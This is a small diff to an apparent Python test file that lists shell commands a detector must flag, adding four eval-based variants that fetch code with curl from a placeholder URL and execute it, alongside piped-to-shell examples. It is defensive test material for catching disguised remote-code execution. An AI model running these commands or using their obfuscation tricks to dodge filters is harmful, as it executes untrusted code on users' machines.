@@ -62,6 +62,10 @@ def found(command):
         "aws s3 cp s3://b/x - | sh",
         "gh api x | bash",
         f'sh -c "{{$(curl {U}),x}}"',
+        f'eval "$(( $(curl {U}) ))"',
+        f'eval "${{x/a/$(curl {U})}}"',
+        f'eval "${{x[$(curl {U})]}}"',
+        f"eval {{a,b}}$(curl {U})",
         f"x=$(y=$(curl {U}); echo $y); eval $x",
     ],
 )
